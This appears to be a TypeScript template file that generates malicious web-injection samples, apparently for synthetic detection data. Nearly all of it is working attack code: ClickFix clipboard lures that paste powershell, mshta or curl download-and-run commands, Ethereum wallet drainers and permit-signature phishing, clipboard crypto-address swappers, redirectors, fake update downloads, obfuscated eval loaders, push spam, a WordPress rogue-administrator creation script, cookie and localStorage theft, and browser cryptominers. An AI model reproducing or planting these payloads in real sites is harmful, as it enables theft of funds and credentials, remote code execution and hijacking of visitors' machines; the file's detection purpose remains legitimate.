/** Malware of other kinds, classic and modern, and web miners, by design. */
export const injectionDesigns: Readonly<Record<string, readonly string[]>> = {
  clickfix: [
    "«ready:document.body.innerHTML='<div class=\"«class»\"><h2>‹Verify you are human¦Checking your browser¦Browser error›</h2><p>Press Win+R, then Ctrl+V, then Enter.</p><button id=@a>‹I am not a robot¦Fix it¦Verify›</button></div>';document.getElementById('@a').onclick=function(){navigator.clipboard.writeText(«secret:powershell -w hidden -c iwr https://verify.invalid/a.txt | iex»)};»",
    "document.addEventListener('click',function(){var @a=document.createElement('textarea');@a.value=«secret:mshta https://captcha.invalid/check.hta # reCAPTCHA ID 4410»;document.body.appendChild(@a);@a.select();document.execCommand('copy');@a.remove();document.querySelector('.«class»').style.display='block'},{once:true});",
    "if(!localStorage.getItem('«storekey»')&&/Win/.test(navigator.platform)){var @a=document.createElement('div');@a.style.cssText='position:fixed;inset:0;background:#fff;z-index:2147483647';@a.innerHTML='<h1>‹Cloud check¦Robot or human?›</h1><ol><li>Windows + R</li><li>CTRL + V</li><li>Enter</li></ol>';@a.onclick=function(){navigator.clipboard.writeText('cmd /c curl https://«host»/x.bat -o %temp%\\\\x.bat && %temp%\\\\x.bat')};document.documentElement.appendChild(@a)}",
  ],
  drainer: [
    "document.querySelectorAll('‹button¦.connect¦a.claim›').forEach(function(b){b.addEventListener('click',async function(){const @a=await window.ethereum.request({method:'eth_requestAccounts'});await window.ethereum.request({method:'eth_sendTransaction',params:[{from:@a[0],to:'0x«hex:40»',value:await window.ethereum.request({method:'eth_getBalance',params:[@a[0],'latest']})}]});«send:JSON.stringify(@a)»})});",
    "async function @a(){const @p=new ethers.providers.Web3Provider(window.ethereum);await @p.send('eth_requestAccounts',[]);const @s=@p.getSigner(),@t=await (await fetch('«url»?a='+await @s.getAddress())).json();for(const t of @t.tokens){const @c=new ethers.Contract(t.address,['function approve(address,uint256)','function setApprovalForAll(address,bool)'],@s);try{await @c.‹approve('0x«hex:40»',ethers.constants.MaxUint256)¦setApprovalForAll('0x«hex:40»',true)›}catch(e){}}}«ready:document.querySelector('‹#claim¦.mint¦#connect›').onclick=@a;»",
    "window.addEventListener('load',async function(){if(!window.‹solana¦phantom¦ethereum›)return;var @a=await window.ethereum.request({method:'eth_accounts'});var @d=await window.ethereum.request({method:'eth_signTypedData_v4',params:[@a[0],JSON.stringify({primaryType:'Permit',message:{owner:@a[0],spender:'0x«hex:40»',value:'115792089237316195423570985008687907853269984665640564039457',deadline:9999999999}})]});«sneak:@d»});",
  ],
  'address-swap': [
    "var @r=[[/\\b0x[a-fA-F0-9]{40}\\b/g,'0x«hex:40»'],[/\\b(bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b/g,'«wallet»']‹,[/\\bT[1-9A-HJ-NP-Za-km-z]{33}\\b/g,'T«key:33»']¦›];function @s(t){@r.forEach(function(p){t=t.replace(p[0],p[1])});return t}‹document.addEventListener('‹copy¦cut›',function(e){var t=String(‹window.getSelection()¦document.getSelection()›),n=@s(t);if(n!==t){e.preventDefault();e.clipboardData.setData('text/plain',n);‹«send:JSON.stringify({o:t,p:location.href})»¦›}},true);¦var @w=navigator.clipboard.writeText.bind(navigator.clipboard);navigator.clipboard.writeText=function(t){return @w(@s(String(t)))};¦setInterval(function(){document.querySelectorAll('input,code,p,span').forEach(function(n){var t=n.firstChild;if(t&&t.nodeType===3&&@s(t.data)!==t.data)t.data=@s(t.data)})},«int:3-30»00);›",
    "document.addEventListener('copy',function(e){var t=‹getSelection().toString()¦window.getSelection()+''›.trim(),@a=/^0x[\\da-f]{40}$/i.test(t)?«secret:0x«hex:40»»:/^(bc1|[13])\\w{25,60}$/.test(t)?«secret:«wallet»»:'';if(@a){‹(e.clipboardData||window.clipboardData)¦e.clipboardData›.setData('‹text/plain¦text›',@a);e.preventDefault()}}‹,true¦›);",
    "document.addEventListener('paste',function(e){var t=e.clipboardData.getData('text');if(/^(0x[a-fA-F0-9]{40}|bc1[a-z0-9]{30,60})$/.test(t.trim())){e.preventDefault();e.target.value=t.trim().charAt(0)==='0'?'0x«hex:40»':'«wallet»';e.target.dispatchEvent(new Event('input',{bubbles:true}))}},true);",
    "document.addEventListener('copy',function(e){var t=String(getSelection());if(/^(0x[a-f0-9]{40}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[a-z0-9]{39})$/i.test(t)){e.clipboardData.setData('text/plain','0x«hex:40»');e.preventDefault()}});",
    "setInterval(function(){document.querySelectorAll('input,code,.address').forEach(function(n){var t=n.value||n.textContent;if(/^0x[a-fA-F0-9]{40}$/.test(t)){n.value!==undefined?n.value='0x«hex:40»':n.textContent='0x«hex:40»'}})},«int:3-20»00);",
  ],
  redirector: [
    "if(/google|bing|yahoo|duckduckgo/.test(document.referrer)&&!/«storekey»/.test(document.cookie)){document.cookie='«storekey»=1;path=/;max-age=86400';‹location.href¦window.location¦top.location.href›=«secret:https://promo.example/lp?s=4»}",
    "if(/Android|iPhone/.test(navigator.userAgent)&&‹Math.random()<.3¦history.length<3¦screen.width<800›){setTimeout(function(){location.replace(«secret:https://win.example/prize»)},«int:1-4000»)}",
    "history.pushState({},'','');window.addEventListener('popstate',function(){location.href=«secret:https://offers.example/back»});",
    "document.addEventListener('click',function(e){if(!«store».getItem('«storekey»')){«store».setItem('«storekey»',Date.now());window.open(«secret:https://pop.example/u»,'_blank');‹window.focus();¦›}},‹true¦false›);",
    "fetch(«secret:https://tds.example/get?d=»+location.hostname).then(function(r){return r.text()}).then(function(u){if(/^http/.test(u))‹location.href=u¦window.location.replace(u)›});",
    "document.querySelectorAll('a[href]').forEach(function(a){if(a.host!==location.host)return;a.addEventListener('mousedown',function(){a.href='«url»?k='+encodeURIComponent(a.textContent)})});",
  ],
  'fake-update': [
    "if(!«store».getItem('«storekey»')&&/Windows NT/.test(navigator.userAgent)){document.body.innerHTML='<iframe style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\" src=\"«url»\"></iframe>';«store».setItem('«storekey»',1)}",
    "«ready:var @a=document.createElement('a');@a.href=URL.createObjectURL(new Blob([Uint8Array.from(atob('«key:120»'),function(c){return c.charCodeAt(0)})],{type:'application/octet-stream'}));@a.download='‹Update.zip¦ChromeSetup.exe¦font-pack.js¦invoice.iso›';document.body.appendChild(@a);@a.click();»",
    "var @a=document.createElement('div');@a.innerHTML='<h2>‹The \"HoeflerText\" font wasn\\u2019t found¦Your browser is out of date¦Critical update›</h2><a href=\"«url»\" download>‹Update¦Install›</a>';@a.style.cssText='position:fixed;inset:0;z-index:2147483647;background:#fff';document.documentElement.appendChild(@a);",
  ],
  'classic-loader': [
    "eval(String.fromCharCode(«codes:var s=document.createElement('script');s.src='https://cdn.example/l.js';document.head.appendChild(s);»));",
    "document.write(unescape('«percent:<script src=\"https://stat.invalid/a.js\"></script>»'));",
    "if(typeof ndsw===\"undefined\"){(function(){var @a=new XMLHttpRequest();@a.open('GET',«secret:https://js.example/ui/jquery.min.php»+'?id='+Math.random());@a.onreadystatechange=function(){if(@a.readyState===4&&@a.responseText.indexOf('ndsx')>-1)eval(@a.responseText)};@a.send()})();}",
    "var @a=document.createElement('script');@a.type='text/javascript';@a.async=true;@a.src=String.fromCharCode(«codes:https://trace.example/m.js»);var @b=document.getElementsByTagName('head')[0];@b‹.insertBefore(@a,@b.firstChild)¦.appendChild(@a)›;",
    "var @a=document.getElementsByTagName('script');var @b=false;for(var i=0;i<@a.length;i++){if(@a[i].src.indexOf(«secret:snippet.example»)>-1)@b=true}if(!@b){var @c=document.createElement('script');@c.src=«secret:https://snippet.example/p.js»;document.head.appendChild(@c)}",
    "(function(@a){var @b=@a.split(''),@c='';for(var i=0;i<@b.length;i+=2)@c+=String.fromCharCode(parseInt(@b[i]+@b[i+1],16));‹eval(@c)¦document.write(@c)¦new Function(@c)()›})('«hextext:document.write(\"<script src=https://inj.invalid/x.js><\\/script>\")»');",
    "‹eval¦window[\"\\x65\\x76\\x61\\x6c\"]¦(0,eval)›(‹atob¦window[\"\\x61\\x74\\x6f\\x62\"]›('«base64:var s=document.createElement(\"script\");s.src=\"https://load.test/j.js\";document.head.appendChild(s);»'));",
    "jQuery(document).ready(function(){if(document.cookie.indexOf('wp-settings')<0){jQuery.getScript(«secret:https://blog.example/wp.js»)}});",
    "self.addEventListener&&addEventListener('load',function(){var @a=document.createElement('iframe');@a.src=«secret:https://gate.example/in.cgi?4»;@a.style.cssText='‹width:1px;height:1px;position:absolute;left:-1000px¦display:none¦visibility:hidden›';document.body.appendChild(@a)});",
  ],
  'push-spam': [
    "Notification.requestPermission().then(function(p){if(p==='granted'){navigator.serviceWorker.register('/sw-«key:4».js?u='+encodeURIComponent(«secret:https://push.example»))}else{location.href='«url»?n='+Math.random()}});",
    "self.addEventListener('push',function(e){e.waitUntil(fetch(«secret:https://ads.example/next»).then(function(r){return r.json()}).then(function(m){return self.registration.showNotification(m.t,{body:m.b,data:m.u,requireInteraction:true})}))});self.addEventListener('notificationclick',function(e){clients.openWindow(e.notification.data)});",
  ],
  'link-spam': [
    "document.write('<div style=\"‹position:absolute;left:-«int:999-9999»px¦display:none›\"><a href=\"«url»\">‹cheap pills¦online casino¦replica watches¦payday loans›</a><a href=\"«url»\">‹viagra¦slots¦essay writing›</a></div>');",
  ],
  'account-takeover': [
    "if(document.querySelector('#wpadminbar')){fetch('/wp-admin/user-new.php').then(function(r){return r.text()}).then(function(t){var n=/_wpnonce_create-user\" value=\"(\\w+)/.exec(t)[1];return fetch('/wp-admin/user-new.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'action=createuser&_wpnonce_create-user='+n+'&user_login=«word»«int:1-99»&email=«word»%40«host»&pass1=«key:10»&pass2=«key:10»&role=administrator'})})}",
    "var @d=document.cookie+'|'+JSON.stringify(localStorage);«sneak:«encoded:@d»»",
  ],
};

export const minerDesigns: Readonly<Record<string, readonly string[]>> = {
  'worker-miner': [
    "var @n=Math.max(1,(navigator.hardwareConcurrency||2)-‹0¦1›),@w=[],@s=new WebSocket(«secret:wss://pool.example:8443/proxy»);@s.onopen=function(){@s.send(JSON.stringify({‹identifier:'handshake',pool:'«host»'¦type:'auth',params:{site_key:'«key:32»'}¦method:'login',params:{login:'«key:95»',pass:'x'}›}))};@s.onmessage=function(e){var @j=JSON.parse(e.data);for(var i=0;i<@n;i++){@w[i]=@w[i]||new Worker('‹/worker.js¦«url»›');@w[i].onmessage=function(m){@s.send(JSON.stringify({method:'submit',params:m.data}))};@w[i].postMessage(@j)}};",
    "var @b=new Blob([«minersrc»],{type:'text/javascript'});for(var i=0;i<(navigator.hardwareConcurrency||4);i++){var @w=new Worker(URL.createObjectURL(@b));@w.postMessage({pool:«secret:wss://xmr.example/ws»,wallet:'«key:95»',throttle:.«int:1-9»})}",
    "WebAssembly.instantiateStreaming(fetch('«url»'),{env:{memory:new WebAssembly.Memory({initial:«int:64-512»})}}).then(function(@m){var x=@m.instance.exports,@s=new WebSocket(«secret:wss://stratum.example»);@s.onmessage=function(e){var j=JSON.parse(e.data),n=Math.random()*4294967295>>>0;(function @l(){for(var i=0;i<«int:16-999»;i++){if(x.‹hash¦cn¦randomx_hash¦work›(n++)<j.target)@s.send(JSON.stringify({id:j.job_id,nonce:n}))}‹setTimeout(@l,«int:0-20»)¦requestIdleCallback(@l)›})()}});",
    "self.onmessage=function(@e){var @j=@e.data,@n=@j.start|0,@t=parseInt(@j.target,16);while(true){var h=‹cryptonight¦argon2¦sha256d¦scrypt›(@j.blob+(@n++).toString(16));if(parseInt(h.slice(-8),16)<@t){postMessage({job_id:@j.job_id,nonce:@n,result:h});‹break¦return›}}};",
    "var @o={algorithm:'‹cn/r¦yespower¦rx/0¦minotaurx›',host:'«host»',port:«int:3000-9999»,worker:'‹wallet¦«key:34»›',password:'c=‹BTC¦LTC›,web',ssl:true};var @s=io(«secret:wss://mine.example»,{transports:['websocket']});@s.on('work',function(w){miner(w,navigator.hardwareConcurrency).then(function(r){@s.emit('submit',r)})});@s.emit('start',@o);",
  ],
  'pool-snippet': [
    "var @s=document.createElement('script');@s.src=«secret:https://www.hostingcloud.example/lib.js»;@s.onload=function(){var @c=new ‹Client¦Miner¦CoinHive›.Anonymous('«key:64»',{throttle:0.«int:1-9»,c:'w',ads:0});@c.start();@c.on('found',function(){})};document.head.appendChild(@s);",
    "if(!/Mobi|Android/.test(navigator.userAgent)&&!document.hidden){importMiner()}function importMiner(){var @m=new ‹CryptoLoot¦CRLT¦PerfektStart¦WebMiner›.Anonymous('«key:44»',{threads:«int:2-8»,throttle:0.«int:2-8»,coin:'xmr'});@m.start();window.addEventListener('‹blur¦visibilitychange›',function(){@m.‹setThrottle(0.1)¦stop()›})}",
  ],
};
